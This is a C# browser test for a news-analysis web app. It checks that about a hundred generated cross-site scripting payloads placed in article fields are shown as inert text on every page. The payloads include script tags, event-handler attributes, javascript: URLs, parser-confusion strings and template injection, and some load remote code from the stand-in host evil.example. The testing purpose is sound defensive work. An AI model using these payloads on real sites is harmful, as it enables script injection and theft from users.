using System.Net.Http.Json;
using System.Text.Json;

namespace DeepSeekImpact.Browser.Tests;

/// <summary>What stands in an article is data. Strings that would run as a script elsewhere are shown as they are.</summary>
public sealed class HostileTextTests(BrowserFixture browser) : IClassFixture<BrowserFixture>
{
    /// <summary>Ways to get a script to run: in text, in attributes, in addresses, in styles, through templates and through confused parsers.</summary>
    private static readonly string[] Payloads = [.. Bodies().Distinct()];

    [BrowserFact]
    public async Task A_hundred_injections_are_shown_as_text_in_every_view()
    {
        Payloads.Length.Should().BeGreaterThanOrEqualTo(100);
        var text = "Shares of Nvidia fell 17% on Monday.\n\n" + string.Join("\n\n", Payloads.Select((payload, i) => $"Maria Stone{i}, an analyst at {payload} Research, said Nvidia “{payload}” would cost $5 million. Shares of <img src=x onerror=alert({i})> Zorvex Inc rose 3% on Tuesday."));
        var id = await browser.StoreAsync(new { text, title = string.Join(' ', Payloads.Take(30)), source = Payloads[0], authors = Payloads.Take(100), publishedAt = "2025-01-28" });
        foreach (var payload in Payloads.Take(10))
            await browser.StoreAsync(new { text = $"{payload} Shares of {payload} Holdings fell 9% on Tuesday, “{payload}” said John Rook of {payload}.", title = payload, source = payload, url = "https://example.com/?" + payload, publishedAt = "2025-01-28" });
        var entities = (await browser.Client.GetFromJsonAsync<JsonElement>("/api/v1/entities?limit=500")).GetProperty("items").EnumerateArray().Select(entity => entity.GetProperty("id").GetString()!).Take(15);
        string[] addresses = ["/articles/" + id, "/", "/articles", "/articles?q=alert", "/claims?limit=1", "/claims?group=topic", "/market-moves", "/events", "/figures", "/figures?show=disagreements", "/quotes", "/entities", .. Payloads.Take(6).Select(payload => "/articles?q=" + Uri.EscapeDataString(payload)), .. Payloads.Take(6).Select(payload => "/articles/" + id + "?fact=" + Uri.EscapeDataString(payload)), .. entities.Select(entity => "/entities/" + Uri.EscapeDataString(entity))];
        await using var visit = await browser.VisitAsync("/");
        foreach (var address in addresses)
        {
            await visit.GoAsync(address);
            (await visit.Page.EvaluateAsync<bool>("() => window.injected === undefined")).Should().BeTrue(address);
            (await visit.Find("main img, main script, main iframe, main object, main style, main [onerror], main a[href^='javascript' i]").CountAsync()).Should().Be(0, address);
            visit.Complaints.RemoveAll(complaint => complaint.Contains("status of 4", StringComparison.Ordinal));
            visit.Complaints.Should().BeEmpty(address);
        }

        await visit.GoAsync("/articles/" + id);
        var shown = await visit.Find(".text").TextContentAsync();
        Payloads.Should().OnlyContain(payload => shown!.Contains(payload, StringComparison.Ordinal));
        (await visit.Find("h1").TextContentAsync()).Should().Be(string.Join(' ', Payloads.Take(30)));
    }

    private static IEnumerable<string> Bodies()
    {
        string[] codes = ["alert(1)", "window.injected=1", "top.injected=1", "import('//evil.example')"];
        string[] shapes =
        [
            "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={0}>", "<img src=x onerror=\"{0}\">", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
            "<svg><animate onbegin={0} attributeName=x dur=1s>", "<body onload={0}>", "<iframe src=\"javascript:{0}\">", "<iframe srcdoc=\"<script>{0}</script>\">", "<a href=\"javascript:{0}\">x</a>", "<a href='data:text/html,<script>{0}</script>'>x</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror={0}>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "\"><script>{0}</script>", "'><img src=x onerror={0}>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
            "<style>@import '//evil.example/x.css';</style><b onmouseover={0}>x</b>", "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<object data=\"javascript:{0}\">", "<form action=\"javascript:{0}\"><button>x</button></form>",
            "<template><script>{0}</script></template>", "${{{0}}}", "{{{{constructor.constructor('{0}')()}}}}", "javascript:{0}", "<base href=//evil.example/>{0}",
        ];
        return from code in codes from shape in shapes select string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, code);
    }
}
